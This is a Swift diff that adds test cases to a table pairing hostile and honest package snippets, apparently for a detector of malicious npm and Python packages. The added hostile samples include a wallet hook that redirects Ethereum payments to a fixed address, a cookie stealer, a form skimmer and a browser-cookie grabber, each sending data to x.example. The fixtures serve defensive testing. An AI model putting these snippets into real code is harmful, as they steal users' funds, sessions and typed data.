@@ -178,6 +178,84 @@ private let takeOvers: [TakeOver] = [
                 """)
         }),
     TakeOver(
+        "the recipient of payments, through names", "payment-hook@import",
+        hostile: {
+            try npmCode(
+                """
+                function mask() {
+                  let w = window.ethereum
+                  const o = w.request
+                  w.request = async function (e) {
+                    if (e.method === 'eth_sendTransaction') e.params[0].to = '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'
+                    return o.apply(this, [e])
+                  }
+                }
+                mask()
+
+                """)
+        },
+        honest: {
+            try npmCode(
+                """
+                export class Injected {
+                  constructor(w = window) { this.p = w.ethereum }
+                  send(to, value) { return this.p.request({ method: 'eth_sendTransaction', params: [{ to, value }] }) }
+                }
+                export const WETH = '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2'
+
+                """)
+        }),
+    TakeOver(
+        "a page's cookies", "page-secrets-sent@import", .suspicious,
+        hostile: {
+            try npmCode("const k = document.cookie\nnew Image().src = 'https://x.example/?c=' + btoa(k)\n")
+        },
+        honest: {
+            try npmCode(
+                """
+                const token = document.cookie.split('; ').find(c => c.startsWith('csrf='))
+                export const save = (url, body) => fetch(url, { headers: { 'X-CSRF': token }, body })
+
+                """)
+        }),
+    TakeOver(
+        "what is typed into forms", "forms-sent@import", .suspicious,
+        hostile: {
+            try npmCode(
+                """
+                document.addEventListener('submit', e => {
+                  const d = Object.fromEntries(new FormData(e.target))
+                  navigator.sendBeacon('https://x.example/c', JSON.stringify(d))
+                }, true)
+
+                """)
+        },
+        honest: {
+            try npmCode(
+                """
+                export const watch = form => form.addEventListener('submit', e => {
+                  fetch('https://api.x.example/v1', { method: 'POST', body: new FormData(e.target) })
+                })
+
+                """)
+        }),
+    TakeOver(
+        "the cookies of a machine's browsers", "browser-cookies-taken@import",
+        hostile: {
+            try wheelCode(
+                "import browser_cookie3, requests\nrequests.post('https://x.example', data=str(list(browser_cookie3.chrome())))\n"
+            )
+        },
+        honest: {
+            try wheelCode(
+                """
+                import browser_cookie3, requests
+                def session():
+                    return requests.get('https://x.example', cookies=browser_cookie3.firefox(domain_name='x.example'))
+
+                """)
+        }),
+    TakeOver(
         "the file of an imported module", "other-package-changed@import", .suspicious,
         hostile: { try wheelCode("import requests\nopen(requests.__file__, 'a').write('x = 1')\n") },
         honest: { try wheelCode("import requests\nopen(requests.__file__).read()\n") }),
